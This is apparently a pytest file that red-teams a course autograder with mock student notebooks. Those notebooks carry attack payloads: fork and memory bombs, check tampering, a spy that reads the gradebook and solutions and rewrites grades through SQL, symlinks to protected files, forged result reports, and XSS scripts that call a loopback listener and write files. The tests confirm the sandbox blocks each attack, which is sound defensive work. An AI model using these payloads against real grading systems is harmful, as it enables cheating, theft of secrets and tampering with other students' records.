"""The grader against students who break things or cheat: one run over a class of submissions built from the
released notebook, one per attack, plus honest full, partial and empty ones.

Each attack gets no more than its honest score and a reason; nobody else's grade moves; nothing outside a student's
private copy changes; no connection reaches the grader's loopback; no feedback shows a hidden test.
"""

import hashlib
import json
import os
import re
import socket
import sqlite3
import tempfile
import threading
from pathlib import Path

import nbformat
import pytest

from coursekit.course import make_samples
from coursekit.grading import exercises, sandbox
from coursekit.grading.grader import GradeOptions, grade_class

from conftest import copy_course

pytestmark = [pytest.mark.slow]
needs_bwrap = pytest.mark.skipif(not sandbox.available(),
                                 reason="bubblewrap (bwrap) is not available: install Debian's `bubblewrap` to run the "
                                        "sandbox tests (`make test` does where it can)")

A = "06_metrics"
ENV_CANARY = "GRADER-ENVIRONMENT-CANARY"
TOTAL = sum(ex.points for ex in exercises(A))
POINTS = {ex.function: ex.points for ex in exercises(A)}


class Listener:
    """A loopback server that counts connections (a sandboxed student must reach none)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = False
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                pass

    def close(self):
        self.stop = True
        self.thread.join(2)
        self.sock.close()


def edit(nb, function, new_source):
    """Replace the solution cell that defines ``function``."""
    for cell in nb.cells:
        if cell.cell_type == "code" and cell.source.lstrip().startswith(f"def {function}("):
            cell.source = new_source
            return nb
    raise AssertionError(f"no cell defines {function}")


def append_to(nb, function, code):
    for cell in nb.cells:
        if cell.cell_type == "code" and cell.source.lstrip().startswith(f"def {function}("):
            cell.source += "\n\n" + code
            return nb
    raise AssertionError(f"no cell defines {function}")


def tree_digest(root: Path, skip) -> dict:
    out = {}
    for p in sorted(root.rglob("*")):
        rel = p.relative_to(root).as_posix()
        if p.is_file() and not any(rel.startswith(s) for s in skip):
            out[rel] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def build_class(root: Path, port: int) -> dict:
    """Write the submissions; return student -> (expected score or None for 'at most honest', expected reason words,
    honest score)."""
    expected = make_samples(root, A, log=lambda *a: None)
    submitted = root / "autograder" / "submitted"
    full = nbformat.read(submitted / "sample_full" / A / f"{A}.ipynb", as_version=4)
    plan = {}

    def write(student, nb=None, raw=None, name=f"{A}.ipynb"):
        folder = submitted / student / A
        folder.mkdir(parents=True, exist_ok=True)
        if raw is not None:
            (folder / name).write_text(raw)
        elif nb is not None:
            nbformat.write(nb, folder / name)

    def copy_full():
        return nbformat.from_dict(json.loads(json.dumps(full)))

    for s in ("sample_full", "sample_partial", "sample_empty"):
        plan[s] = (expected[s], [])

    write("invalid_json", raw='{"cells": [ this is not json')
    plan["invalid_json"] = (0, ["not a readable notebook"])

    (submitted / "missing_notebook" / A).mkdir(parents=True)
    (submitted / "missing_notebook" / A / "README.txt").write_text("I forgot to attach it")
    plan["missing_notebook"] = (0, ["no notebook"])

    write("renamed", copy_full(), name="my work (final).ipynb")
    plan["renamed"] = (TOTAL, ["renamed"])

    nb = copy_full()
    nb.cells = [c for c in nb.cells if not c.get("metadata", {}).get("nbgrader", {}).get("grade")]
    edit(nb, "mean_iou", "def mean_iou(cm):\n    return 1.0")
    write("deleted_tests", nb)
    plan["deleted_tests"] = (TOTAL - POINTS["mean_iou"], [])

    nb = copy_full()
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
            cell.source = "pass"
    edit(nb, "pixel_accuracy", "def pixel_accuracy(cm):\n    return 0.5")
    write("edited_tests", nb)
    plan["edited_tests"] = (TOTAL - POINTS["pixel_accuracy"], [])

    nb = copy_full()
    edit(nb, "mean_iou", "def mean_iou(cm):\n    while True:\n        pass")
    write("loop_in_function", nb)
    plan["loop_in_function"] = (TOTAL - POINTS["mean_iou"], ["longer than"])

    nb = copy_full()
    append_to(nb, "dice_per_class", "while True:\n    pass")
    write("loop_top_level", nb)
    plan["loop_top_level"] = (TOTAL, ["could not run to its end", "time limit"])

    nb = copy_full()
    append_to(nb, "pixel_accuracy", "import os\nos._exit(1)")
    write("dead_kernel", nb)
    plan["dead_kernel"] = (TOTAL, [])

    nb = copy_full()
    edit(nb, "pixel_accuracy", "def pixel_accuracy(cm):\n    hog = bytearray(64 * 2**30)\n    return 0.0")
    append_to(nb, "mean_pixel_accuracy", "ballast = bytearray(64 * 2**30)")
    write("memory_bomb", nb)
    plan["memory_bomb"] = (TOTAL - POINTS["pixel_accuracy"], [])

    nb = copy_full()
    append_to(nb, "confusion_matrix", "import os, time\nchildren = 0\nwhile children < 100000:\n    try:\n"
                                      "        if os.fork() == 0:\n            time.sleep(30)\n            os._exit(0)\n"
                                      "        children += 1\n    except OSError:\n        break")
    write("process_bomb", nb)
    plan["process_bomb"] = (None, [])

    nb = copy_full()
    append_to(nb, "iou_per_class", "while True:\n    print('x' * 100000)")
    write("huge_output", nb)
    plan["huge_output"] = (TOTAL, [])

    empty = nbformat.read(submitted / "sample_empty" / A / f"{A}.ipynb", as_version=4)
    nb = nbformat.from_dict(json.loads(json.dumps(empty)))
    append_to(nb, "confusion_matrix", "def check(*args, **kwargs):\n    print('all good')")
    write("tamper_check", nb)
    plan["tamper_check"] = (0, [])

    nb = nbformat.from_dict(json.loads(json.dumps(empty)))
    append_to(nb, "confusion_matrix",
              "import coursekit.grading as g, coursekit.grading.check as gc\n"
              "g.check = gc.check = lambda *a, **k: None\n"
              "get_ipython().input_transformers_post.append(\n"
              "    lambda lines: [l.replace('check(', '(lambda *a, **k: None)(') for l in lines])")
    write("tamper_transformer", nb)
    plan["tamper_transformer"] = (0, [])

    nb = copy_full()
    liar = ("class Anything(float):\n    def __eq__(self, other):\n        return True\n"
            "    def __array__(self, dtype=None, copy=None):\n        raise TypeError('no numbers here')\n")
    edit(nb, "pixel_accuracy", liar + "\ndef pixel_accuracy(cm):\n    return Anything()")
    write("always_equal", nb)
    plan["always_equal"] = (TOTAL - POINTS["pixel_accuracy"], [])

    nb = copy_full()
    edit(nb, "mean_iou", "import coursekit.metrics as ck\n\ndef mean_iou(cm):\n    return ck.mean_iou(cm)")
    edit(nb, "confusion_matrix", "def confusion_matrix(pred, target, num_classes, ignore_index=255):\n"
                                 "    import numpy as np\n    from sklearn.metrics import confusion_matrix as sk\n"
                                 "    p, t = np.ravel(pred), np.ravel(target)\n"
                                 "    keep = t != ignore_index if ignore_index is not None else np.ones(t.shape, bool)\n"
                                 "    if ((p[keep] < 0) | (p[keep] >= num_classes) | (t[keep] < 0) | "
                                 "(t[keep] >= num_classes)).any():\n        raise ValueError('out of range')\n"
                                 "    return sk(t[keep], p[keep], labels=list(range(num_classes))).astype(np.int64)")
    write("forbidden_calls", nb)
    plan["forbidden_calls"] = (TOTAL - POINTS["mean_iou"] - POINTS["confusion_matrix"],
                               ["coursekit.metrics", "uses sklearn, which this exercise does not allow"])

    nb = copy_full()
    secrets = [root / "autograder" / "gradebook.db", root / "solutions" / A / f"{A}.ipynb",
               root / "autograder" / "source" / A / f"{A}.ipynb",
               root / "autograder" / "submitted" / "sample_full" / A / f"{A}.ipynb", Path.home() / ".bashrc"]
    spy = (f"import os, socket, sqlite3\nfound = []\n"
           f"for path in {[str(p) for p in secrets]!r} + ['../../../gradebook.db', '../../../source/{A}',"
           f" '../../../../solutions', '../../sample_full']:\n"
           f"    try:\n        open(path, 'rb').read(10)\n        found.append(path)\n    except OSError:\n"
           f"        if os.path.isdir(path):\n            found.append(path)\n"
           f"    if path.endswith('gradebook.db') and os.path.exists(path):\n        try:\n"
           f"            db = sqlite3.connect(path)\n            db.execute('update grade set manual_score = 999')\n"
           f"            db.execute(\"update student set first_name = 'pwned'\")\n            db.commit()\n"
           f"        except Exception:\n            pass\n"
           f"try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2).close()\n    found.append('network')\n"
           f"except OSError:\n    pass\n"
           f"for pid in os.listdir('/proc'):\n    try:\n"
           f"        if b'{ENV_CANARY}' in open(f'/proc/{{pid}}/environ', 'rb').read():\n"
           f"            found.append('environ of ' + pid)\n    except OSError:\n        pass\n"
           f"if '{ENV_CANARY}' in repr(dict(os.environ)):\n    found.append('environ')\n"
           f"print('SPY FOUND', sorted(found))")
    append_to(nb, "iou_per_class", spy)
    write("spy", nb)
    plan["spy"] = (TOTAL, [])
    build_second_round(root, plan, write, copy_full, port)
    return plan


# ---------------------------------------------------------------------------------------------------------------
# the second red team's attacks (each one won against the grader before it was hardened)

CANARY = "CANARY-root-only-0600"
XSS = ("fetch('http://127.0.0.1:{port}/xss-' + location.pathname);"
       "fetch('/api/contents/pwned-by-{where}.txt', {{method: 'PUT', headers: {{'Content-Type': 'application/json'}},"
       " body: JSON.stringify({{type: 'file', format: 'text', content: 'pwned'}})}})")


def xss_notebook(nb, port):
    """Scripts in a markdown cell (a script tag, an onerror attribute) and in outputs (HTML, JavaScript)."""
    md = nbformat.v4.new_markdown_cell(
        f"Thanks for grading!<script>{XSS.format(port=port, where='markdown')}</script>\n\n"
        f"<img src=\"x\" onerror=\"{XSS.format(port=port, where='onerror')}\">")
    nb.cells.insert(1, md)
    html = f"<script>{XSS.format(port=port, where='html')}</script><b>bold</b>"
    append_to(nb, "pixel_accuracy",
              "from IPython.display import HTML, Javascript, display\n"
              f"display(HTML({html!r}))\n"
              f"display(Javascript({XSS.format(port=port, where='javascript')!r}))")
    return nb


def build_second_round(root: Path, plan: dict, write, copy_full, port: int) -> None:
    submitted = root / "autograder" / "submitted"
    secret_files = {"seed": root / "autograder" / ".grading_seed", "gradebook": root / "autograder" / "gradebook.db",
                    "solution": root / "solutions" / A / f"{A}.ipynb", "canary": root / "canary.txt"}

    # 1. scripts for the formgrader and the feedback page (an honest notebook otherwise)
    write("xss", xss_notebook(copy_full(), port))
    plan["xss"] = (TOTAL, [])

    # 2. a submission that is a link to the solution, and one with a link to the gradebook beside the notebook
    (submitted / "link_solution" / A).mkdir(parents=True)
    (submitted / "link_solution" / A / f"{A}.ipynb").symlink_to(secret_files["solution"])
    plan["link_solution"] = (0, ["link"])
    nb = copy_full()
    append_to(nb, "iou_per_class", "import os\ntry:\n    print('LINKED GRADEBOOK', len(open('gradebook.db', 'rb').read()))\n"
                                   "except OSError:\n    print('LINKED GRADEBOOK none')")
    write("link_gradebook", nb)
    (submitted / "link_gradebook" / A / "gradebook.db").symlink_to(secret_files["gradebook"])
    plan["link_gradebook"] = (TOTAL, ["gradebook.db", "links"])

    # 3. links the kernel plants in its own folder, and its notebook replaced by a link to a root-only file
    targets = {name: str(path) for name, path in secret_files.items()}
    nb = copy_full()
    append_to(nb, "mean_iou", f"import os\nfor name, target in {targets!r}.items():\n"
                              f"    os.symlink(target, 'planted-' + name)\n"
                              f"os.unlink('{A}.ipynb')\nos.symlink({str(secret_files['canary'])!r}, '{A}.ipynb')\n"
                              "import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind('planted.sock')")
    write("planter", nb)
    plan["planter"] = (TOTAL, [])

    # 4. a forbidden peer called in a thread
    nb = copy_full()
    edit(nb, "confusion_matrix", "import threading\nimport numpy as np\n\n"
                                 "def confusion_matrix(pred, target, num_classes, ignore_index=255):\n"
                                 "    out = []\n    def work():\n        from sklearn.metrics import confusion_matrix as sk\n"
                                 "        t, p = np.ravel(target), np.ravel(pred)\n        keep = t != ignore_index\n"
                                 "        out.append(sk(t[keep], p[keep], labels=list(range(num_classes))).astype(np.int64))\n"
                                 "    th = threading.Thread(target=work)\n    th.start()\n    th.join()\n    return out[0]")
    write("thread_peer", nb)
    plan["thread_peer"] = (TOTAL - POINTS["confusion_matrix"], [])

    # 5. and 6. forged reports: an atexit handler and the function itself write results on every descriptor and as
    # files, and a result file is planted as a link to a root-only file
    forge = ("import atexit, json, os\n"
             "def forge():\n"
             "    header = json.dumps({'kind': 'result', 'exercise': 0, 'case': 0, 'record': {'status': 'ok', "
             "'result': {'none': True}}, 'arrays': []}).encode()\n"
             "    for fd in range(3, 256):\n"
             "        try:\n            os.write(fd, b'CKR1' + len(header).to_bytes(4, 'big') + header)\n"
             "        except OSError:\n            pass\n"
             "    for n in range(8):\n        try:\n"
             "            open(f'result-{n}.json', 'w').write(json.dumps({'cases': [{'status': 'ok'}]}))\n"
             "        except OSError:\n            pass\n"
             "atexit.register(forge)\n"
             f"try:\n    os.symlink({str(secret_files['canary'])!r}, 'result-0.json')\nexcept OSError:\n    pass\n")
    nb = copy_full()
    edit(nb, "mean_iou", forge + "\nimport coursekit.metrics as ck\n\ndef mean_iou(cm):\n    forge()\n"
                                 "    return ck.mean_iou(cm)")
    write("forger", nb)
    plan["forger"] = (TOTAL - POINTS["mean_iou"], [])

    # 7. a declared giant array on the channel, and a giant return value
    nb = copy_full()
    edit(nb, "pixel_accuracy", "import json, os\n\ndef pixel_accuracy(cm):\n"
                               "    header = json.dumps({'kind': 'result', 'exercise': 1, 'case': 0, 'record': "
                               "{'status': 'ok', 'result': {'array': 'x'}}, 'arrays': [{'key': 'x', 'dtype': '<f8', "
                               "'shape': [2**15, 2**15]}]}).encode()\n"
                               "    for fd in range(3, 256):\n        try:\n"
                               "            os.write(fd, b'CKR1' + len(header).to_bytes(4, 'big') + header + bytes(9000))\n"
                               "        except OSError:\n            pass\n    return 0.5")
    edit(nb, "mean_pixel_accuracy", "import numpy as np\n\ndef mean_pixel_accuracy(cm):\n"
                                    "    return np.broadcast_to(np.float64(0.5), (2**15, 2**15))")
    write("bomb", nb)
    plan["bomb"] = (TOTAL - POINTS["pixel_accuracy"] - POINTS["mean_pixel_accuracy"], [])

    # 8. filling the sandbox's memory-backed folders
    nb = copy_full()
    append_to(nb, "dice_per_class", "import os\ntotals = {}\nfor where in ('/tmp', '.'):\n    n = 0\n"
                                    "    try:\n        for i in range(100):\n"
                                    "            with open(os.path.join(where, f'fill{i}'), 'wb') as fh:\n"
                                    "                for _ in range(16):\n"
                                    "                    fh.write(bytes(2**20))\n                    n += 2**20\n"
                                    "    except OSError:\n        pass\n    totals[where] = n\n"
                                    "print('FILLED', totals['/tmp'] // 2**20, totals['.'] // 2**20)")
    write("filler", nb)
    plan["filler"] = (TOTAL, [])

    # 10. the metrics from unforbidden peers of scikit-learn and SciPy
    nb = copy_full()
    edit(nb, "confusion_matrix", "import numpy as np\nfrom scipy.stats.contingency import crosstab\n\n"
                                 "def confusion_matrix(pred, target, num_classes, ignore_index=255):\n"
                                 "    t, p = np.ravel(target), np.ravel(pred)\n    keep = t != ignore_index\n"
                                 "    labels = np.arange(num_classes)\n"
                                 "    return crosstab(t[keep], p[keep], levels=(labels, labels)).count.astype(np.int64)")
    edit(nb, "iou_per_class", "import numpy as np\n\ndef iou_per_class(cm):\n"
                              "    from sklearn.metrics import multilabel_confusion_matrix\n"
                              "    cm = np.asarray(cm)\n    tp = np.diag(cm).astype(float)\n"
                              "    union = cm.sum(0) + cm.sum(1) - tp\n"
                              "    with np.errstate(invalid='ignore', divide='ignore'):\n"
                              "        return np.where(union > 0, tp / union, np.nan)")
    write("peers", nb)
    # mean_iou of the solution calls iou_per_class: it fails with it
    plan["peers"] = (TOTAL - POINTS["confusion_matrix"] - POINTS["iou_per_class"] - POINTS["mean_iou"],
                     ["uses scipy, which this exercise does not allow", "uses sklearn"])


@needs_bwrap
def test_a_class_of_attacks(tmp_path):
    root = copy_course(tmp_path / "course")
    from coursekit.course import release

    release(root, log=lambda *a: None)
    options = GradeOptions(jobs=2, case_seconds=20, limits=sandbox.Limits(
        memory_mb=3072, processes=64, cell_seconds=20, student_seconds=150, output_mb=2.0, scratch_mb=64))

    # a bystander graded earlier: no attack may change their record
    make_samples(root, A, log=lambda *a: None)
    bystander_dir = root / "autograder" / "submitted" / "bystander"
    (root / "autograder" / "submitted" / "sample_partial").rename(bystander_dir)
    grade_class(root, A, students=["bystander"], options=options, log=lambda *a: None, progress=False)
    db = root / "autograder" / "gradebook.db"

    def bystander_rows():
        with sqlite3.connect(db) as con:
            return con.execute(
                "select grade.auto_score, grade.manual_score, student.first_name from grade "
                "join submitted_notebook on grade.notebook_id = submitted_notebook.id "
                "join submitted_assignment on submitted_notebook.assignment_id = submitted_assignment.id "
                "join student on submitted_assignment.student_id = student.id "
                "where student.id = 'bystander' order by grade.id").fetchall()

    before = bystander_rows()
    assert before and sum(r[0] for r in before) == 5.0

    canary = root / "canary.txt"
    canary.write_text(CANARY)
    canary.chmod(0o600)
    modes = {p: p.stat().st_mode for p in (canary, root / "autograder" / ".grading_seed", db)}
    listener = Listener()
    skip = ("autograder/autograded/", "autograder/feedback/", "autograder/grades/", "autograder/gradebook.db",
            "autograder/submitted/renamed/", "autograder/submitted/link_")
    temp_before = set(os.listdir(tempfile.gettempdir()))
    try:
        plan = build_class(root, listener.port)
        protected = tree_digest(root, skip=skip)
        students = sorted(plan)
        os.environ[ENV_CANARY] = ENV_CANARY
        report = grade_class(root, A, students=students, options=options, log=lambda *a: None, progress=False)
    finally:
        os.environ.pop(ENV_CANARY, None)
        listener.close()

    results = {r.student: r for r in report.results}
    problems = []
    for student, (score, words) in plan.items():
        r = results[student]
        if score is None:
            ok = r.score <= TOTAL and r.status in ("graded", "error")
        else:
            ok = r.score == score
        text = r.reason + " " + " ".join(str(v[2]) for v in r.exercises.values())
        if not ok or not all(w in text for w in words):
            problems.append(f"{student}: score {r.score} (expected {score}), status {r.status}, reason {text!r}")
    assert not problems, "\n".join(problems)

    # a test cell changed in the submission is reported in the student's log, one left as released is not
    logs = {s: (report.log_dir / f"{s}.log").read_text() for s in ("edited_tests", "sample_full")}
    assert "was changed in the submission" in logs["edited_tests"]
    assert "has changed" not in logs["sample_full"] and "was changed in the submission" not in logs["sample_full"]

    # tampering with the in-kernel checks is seen
    assert results["tamper_check"].suspected and results["tamper_transformer"].suspected
    assert not results["sample_full"].suspected and not results["sample_partial"].suspected

    # nobody touched the bystander, the course, or the network
    assert bystander_rows() == before
    assert tree_digest(root, skip=skip) == protected
    assert listener.connections == 0
    assert {p: p.stat().st_mode for p in modes} == modes, "a protected file's mode changed"
    assert canary.read_text() == CANARY
    left = sorted(n for n in set(os.listdir(tempfile.gettempdir())) - temp_before
                  if n.startswith(("ck-", "coursekit-grade-", "cleanroom-", "student-")))
    assert not left, f"temporary folders left behind: {left}"

    # the spy saw nothing of the grader's world
    spy = nbformat.read(root / "autograder" / "autograded" / "spy" / A / f"{A}.ipynb", as_version=4)
    printed = "".join(o.get("text", "") for c in spy.cells if c.cell_type == "code" for o in c.get("outputs", []))
    assert "SPY FOUND []" in printed, printed[-500:]

    def printed_by(student):
        nb = nbformat.read(root / "autograder" / "autograded" / student / A / f"{A}.ipynb", as_version=4)
        return "".join(o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", []))

    # links: refused in the submission, and those the kernel planted never reached the grader's folders
    assert "LINKED GRADEBOOK none" in printed_by("link_gradebook")
    for student in ("planter", "link_gradebook", "xss"):
        kept = sorted(p.name for p in (root / "autograder" / "feedback" / student / A).iterdir())
        assert kept == [f"{A}.html"], f"{student}: feedback folder holds {kept}"
        graded = root / "autograder" / "autograded" / student / A
        assert all(p.is_file() and not p.is_symlink() for p in graded.iterdir()), sorted(graded.iterdir())
    assert not any("CANARY" in r.reason + json.dumps(r.exercises) for r in results.values())

    # the sandbox's writable folders are small and in memory: filling them stops at their size
    filled = re.search(r"FILLED (\d+) (\d+)", printed_by("filler"))
    assert filled and int(filled.group(1)) <= options.limits.scratch_mb and \
        int(filled.group(2)) <= options.limits.scratch_mb, printed_by("filler")[-300:]

    # students' scripts are not in the feedback page, which allows none anyway
    page = (root / "autograder" / "feedback" / "xss" / A / f"{A}.html").read_text()
    assert "script-src 'none'" in page
    assert not re.search(r"<script", page, re.I), "a script tag in the feedback page"
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", page, re.I), "an event handler in the feedback page"

    # feedback: every graded student has a page, with no hidden test in it
    for student, r in results.items():
        page = root / "autograder" / "feedback" / student / A / f"{A}.html"
        if r.status == "graded":
            assert page.is_file(), f"{student}: no feedback"
        if page.is_file():
            text = page.read_text()
            assert "hidden=True" not in text and "HIDDEN TESTS" not in text

    # the gradebook holds the verdicts, and the huge output was cut
    with sqlite3.connect(db) as con:
        rows = dict(con.execute(
            "select submitted_assignment.student_id, sum(grade.auto_score) from grade "
            "join submitted_notebook on grade.notebook_id = submitted_notebook.id "
            "join submitted_assignment on submitted_notebook.assignment_id = submitted_assignment.id "
            "group by submitted_assignment.student_id").fetchall())
    for student, r in results.items():
        if r.status == "graded":
            assert rows.get(student) == r.score, f"{student}: gradebook {rows.get(student)} != verdict {r.score}"
    huge = root / "autograder" / "autograded" / "huge_output" / A / f"{A}.ipynb"
    assert huge.stat().st_size < 20 * 2**20
